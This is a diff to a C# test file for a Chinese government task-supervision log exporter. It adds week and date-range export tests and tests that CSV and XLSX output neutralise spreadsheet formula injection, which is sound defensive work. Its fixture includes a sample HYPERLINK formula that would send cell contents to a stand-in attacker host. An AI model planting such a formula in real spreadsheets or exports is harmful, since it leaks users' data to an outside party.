@@ -20,7 +20,7 @@ internal static class ExportData
 {
     public static readonly Instant Now = Instant.FromUtc(2026, 6, 2, 0, 30);
 
-    public static EscalationEvent Notice(string occurrence, string unit, LocalDate date, string unitName = "市发展改革委") => new(
+    public static EscalationEvent Notice(string occurrence, string unit, LocalDate date, string unitName = "市发展改革委", string title = "推进城市更新“一号工程”") => new(
         EventId.For(new RuleId("R5"), new ItemId(unit + "-2026-01"), occurrence),
         new RuleId("R5"),
         EventLevel.Notice,
@@ -32,7 +32,7 @@ internal static class ExportData
         [new Recipient(RecipientRole.UnitPrincipal, new PersonId(unit + "-zhang"), false), new Recipient(RecipientRole.SupervisionOffice, new PersonId("dcs-office"), true)],
         [Channel.Email, Channel.Sms],
         "lag-notice",
-        new EventFacts("推进城市更新“一号工程”", unitName, 45.5, 20, "完成方案报批", new LocalDate(2026, 5, 29), 40, false, 3, 2, "2026年5月", "2026-05",
+        new EventFacts(title, unitName, 45.5, 20, "完成方案报批", new LocalDate(2026, 5, 29), 40, false, 3, 2, "2026年5月", "2026-05",
             new LocalDate(2026, 5, 31), null, null),
         new Demand(DemandKind.Explanation, new LocalDate(2026, 6, 9)));
 
@@ -112,7 +112,7 @@ public sealed class ExportCommandTests : IAsyncLifetime, IDisposable
         var rows = ExportData.ReadCsv(file);
         Assert.Equal(Cli.Ok, code);
         Assert.Equal("", stderr);
-        Assert.Equal($"Wrote 3 events of 2026-06 to {Path.GetFullPath(file)}.", stdout.TrimEnd());
+        Assert.Equal($"已导出 2026-06 的督办记录 3 条：{Path.GetFullPath(file)}", stdout.TrimEnd());
         Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
         Assert.Equal(string.Join(",", LogExport.Headers), File.ReadAllLines(file, Encoding.UTF8)[0]);
         Assert.Equal(23, LogExport.Headers.Count);
@@ -138,7 +138,7 @@ public sealed class ExportCommandTests : IAsyncLifetime, IDisposable
 
         var rows = ExportData.ReadCsv(file);
         Assert.Equal(Cli.Ok, code);
-        Assert.Contains("Wrote 1 events of 2026-06 for unit zjj", stdout, StringComparison.Ordinal);
+        Assert.Contains("已导出 2026-06 单位 zjj 的督办记录 1 条", stdout, StringComparison.Ordinal);
         Assert.Equal(2, rows.Count);
         Assert.Equal((JuneZjj.Id.Value, "zjj", "市住房城乡建设局"), (rows[1][1], rows[1][6], rows[1][5]));
     }
@@ -158,6 +158,7 @@ public sealed class ExportCommandTests : IAsyncLifetime, IDisposable
         Assert.All(rows, r => Assert.Equal(LogExport.Headers, r.Keys));
         Assert.Equal([JuneFgw.Id.Value, JuneZjj.Id.Value, JuneFgwLater.Id.Value], rows.Select(r => r["事件编号"]?.ToString()));
         Assert.Equal("已发送1；失败1", rows[0]["送达情况"]);
+        Assert.Equal((new DateTime(2026, 6, 2), 45.5, 2.0), (rows[0]["日期"], rows[0]["计划进度(%)"], rows[0]["连续滞后期数"]));
     }
 
     [Theory]
@@ -170,7 +171,7 @@ public sealed class ExportCommandTests : IAsyncLifetime, IDisposable
         var (code, stdout, _) = ExportData.Run("export", "log", "--month", "2026-01", "--format", format, "--out", file, "--store", _store);
 
         Assert.Equal(Cli.Ok, code);
-        Assert.Contains("Wrote 0 events of 2026-01", stdout, StringComparison.Ordinal);
+        Assert.Contains("已导出 2026-01 的督办记录 0 条", stdout, StringComparison.Ordinal);
         if (format == "csv")
         {
             Assert.Equal([string.Join(",", LogExport.Headers)], File.ReadAllLines(file, Encoding.UTF8));
@@ -193,22 +194,142 @@ public sealed class ExportCommandTests : IAsyncLifetime, IDisposable
 
         Assert.Equal(Cli.UsageError, code);
         Assert.Equal("", stdout);
-        Assert.Contains($"--month needs a month written YYYY-MM (got '{month}')", stderr, StringComparison.Ordinal);
+        Assert.Contains($"--month 应写作 YYYY-MM，如 2026-06（收到 '{month}'）", stderr, StringComparison.Ordinal);
         Assert.False(File.Exists(file));
     }
+
+    // Events of the fixture:   May 29 (fgw) | June 2 (fgw, zjj), June 5 (fgw) | July 1 (fgw)
+    //   ISO week 2026-W22: Mon May 25 .. Sun May 31;  2026-W23: Mon June 1 .. Sun June 7
+    [Theory]
+    [InlineData("2026-W23", 3)]
+    [InlineData("2026-W22", 1)]
+    [InlineData("2026-W27", 1)]
+    [InlineData("2026-W24", 0)]
+    public void Export_WritesTheEventsOfTheIsoWeek_WhenAWeekIsGiven(string week, int events)
+    {
+        var file = _files[week + ".csv"];
+
+        var (code, stdout, stderr) = ExportData.Run("export", "log", "--week", week, "--format", "csv", "--out", file, "--store", _store);
+
+        var rows = ExportData.ReadCsv(file);
+        Assert.Equal(Cli.Ok, code);
+        Assert.Equal("", stderr);
+        Assert.Contains($"已导出 {week} 的督办记录 {events} 条", stdout, StringComparison.Ordinal);
+        Assert.Equal(events, rows.Count - 1);
+    }
+
+    [Fact]
+    public void Export_WritesTheEventsOfBothEndsAndBetween_WhenARangeCrossesAMonth()
+    {
+        var file = _files["range.xlsx"];
+
+        var (code, stdout, stderr) = ExportData.Run("export", "log", "--from", "2026-05-29", "--to", "2026-06-02", "--format", "xlsx", "--out", file, "--store", _store);
+
+        var rows = MiniExcel.Query(file, useHeaderRow: true).Cast<IDictionary<string, object?>>().ToList();
+        Assert.Equal(Cli.Ok, code);
+        Assert.Equal("", stderr);
+        Assert.Contains("已导出 2026-05-29至2026-06-02 的督办记录 3 条", stdout, StringComparison.Ordinal);
+        Assert.Equal(["督办记录2026-05-29至2026-06-02"], MiniExcel.GetSheetNames(file));
+        Assert.Equal([May.Id.Value, JuneFgw.Id.Value, JuneZjj.Id.Value], rows.Select(r => r["事件编号"]?.ToString()));
+    }
+
+    [Fact]
+    public async Task Export_QuotesTextThatExcelWouldRunAsAFormula_WhenTheFormatIsCsv()
+    {
+        var tables = SqliteTables.Open(_store, new FakeClock(ExportData.Now));
+        var log = new EscalationLog(tables);
+        foreach (var (unit, name, title) in Formulas)
+        {
+            await log.Record(ExportData.Notice("lag:2026-08", unit, new LocalDate(2026, 9, 1), name, title), ExportData.Now);
+        }
+
+        var file = _files["formulas.csv"];
+
+        var (code, _, _) = ExportData.Run("export", "log", "--month", "2026-09", "--format", "csv", "--out", file, "--store", _store);
+
+        var rows = ExportData.ReadCsv(file).Skip(1).ToDictionary(r => r[6]);
+        Assert.Equal(Cli.Ok, code);
+        Assert.All(Formulas, f => Assert.Equal(("'" + f.Name, "'" + f.Title), (rows[f.Unit][5], rows[f.Unit][8])));
+        Assert.Equal("45.5", rows["u1"][11]);
+    }
+
+    [Fact]
+    public async Task Export_WritesFormulaLikeTextAsLiteralText_WhenTheFormatIsXlsx()
+    {
+        var tables = SqliteTables.Open(_store, new FakeClock(ExportData.Now));
+        var log = new EscalationLog(tables);
+        foreach (var (unit, name, title) in Formulas)
+        {
+            await log.Record(ExportData.Notice("lag:2026-08", unit, new LocalDate(2026, 9, 1), name, title), ExportData.Now);
+        }
+
+        var file = _files["formulas.xlsx"];
+
+        var (code, _, _) = ExportData.Run("export", "log", "--month", "2026-09", "--format", "xlsx", "--out", file, "--store", _store);
+
+        var sheet = XlsxSheet.Read(file);
+        Assert.Equal(Cli.Ok, code);
+        Assert.Equal(0, sheet.Formulas);
+        var byUnit = sheet.Rows.ToDictionary(r => r["单位编号"].Value);
+        // A bare CR reads back as LF: XML parsers normalise line ends, and MiniExcel writes the CR unescaped.
+        static string Xml(string text) => text.Replace('\r', '\n');
+        Assert.All(Formulas, f => Assert.Equal((Xml(f.Name), Xml(f.Title)), (byUnit[f.Unit]["责任单位"].Value, byUnit[f.Unit]["任务名称"].Value)));
+        Assert.All(Formulas, f => Assert.True(byUnit[f.Unit]["任务名称"].IsText));
+    }
+
+    [Fact]
+    public void Export_WritesNumbersAsNumbersAndDatesAsExcelDates_WhenTheFormatIsXlsx()
+    {
+        var file = _files["typed.xlsx"];
+
+        var (code, _, _) = ExportData.Run("export", "log", "--month", "2026-06", "--format", "xlsx", "--out", file, "--store", _store);
+
+        var sheet = XlsxSheet.Read(file);
+        var first = sheet.Rows[0];
+        Assert.Equal(Cli.Ok, code);
+        Assert.Equal(LogExport.Headers, sheet.Headers);
+        Assert.All(LogExport.Columns.Where(c => c.Kind == CellKind.Number), c => Assert.True(first[c.Header].IsNumber, c.Header));
+        Assert.Equal(("45.5", "20", "2"), (first["计划进度(%)"].Value, first["实际进度(%)"].Value, first["连续滞后期数"].Value));
+        Assert.All(LogExport.Columns.Where(c => c.Kind == CellKind.Date), c => Assert.Equal(("yyyy-mm-dd", true), (first[c.Header].Format, first[c.Header].IsNumber)));
+        Assert.Equal(
+            [new LocalDate(2026, 6, 2), new LocalDate(2026, 5, 29), new LocalDate(2026, 6, 9)],
+            DateHeaders.Select(h => LocalDate.FromDateTime(DateTime.FromOADate(double.Parse(first[h].Value, CultureInfo.InvariantCulture)))));
+        Assert.All(LogExport.Columns.Where(c => c.Kind == CellKind.Text), c => Assert.True(first[c.Header].IsText || first[c.Header].Value == "", c.Header));
+    }
+
+    private static readonly string[] DateHeaders = ["日期", "节点日期", "要求时限"];
+
+    /// <summary>Every character OWASP lists as starting a formula (CWE-1236), in a unit name and a task title from an admin's file.</summary>
+    private static readonly (string Unit, string Name, string Title)[] Formulas =
+    [
+        ("u1", "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"),
+        ("u2", "+市发展改革委", "+1"),
+        ("u3", "-市住建局", "-2+3"),
+        ("u4", "@SUM(A1:A9)", "@任务"),
+        ("u5", "\t=1+1", "\t任务"),
+        ("u6", "\r=1+1", "\r任务"),
+    ];
 
     [Theory]
     [InlineData("export", "log", "--format", "csv")]
     [InlineData("export", "log", "--month", "2026-06", "--format", "pdf")]
     [InlineData("export", "events", "--month", "2026-06")]
     [InlineData("export", "log", "--month", "2026-06", "--unit", "a/b")]
-    public void Export_ExitsWithUsageError_WhenAnArgumentIsWrong(params string[] args)
+    [InlineData("export", "log", "--month", "2026-06", "--week", "2026-W23")]
+    [InlineData("export", "log", "--week", "2026-W23", "--from", "2026-06-01", "--to", "2026-06-07")]
+    [InlineData("export", "log", "--from", "2026-06-01")]
+    [InlineData("export", "log", "--to", "2026-06-01")]
+    [InlineData("export", "log", "--from", "2026-06-08", "--to", "2026-06-01")]
+    [InlineData("export", "log", "--from", "2026-06-31", "--to", "2026-07-01")]
+    [InlineData("export", "log", "--week", "2026-23")]
+    [InlineData("export", "log", "--week", "2025-W53")]
+    public void Export_ExitsWithAChineseUsageError_WhenAnArgumentIsWrong(params string[] args)
     {
         var (code, stdout, stderr) = ExportData.Run([.. args, "--store", _store]);
 
         Assert.Equal(Cli.UsageError, code);
         Assert.Equal("", stdout);
-        Assert.NotEqual("", stderr);
+        Assert.Matches(@"\p{IsCJKUnifiedIdeographs}", stderr);
     }
 }
 
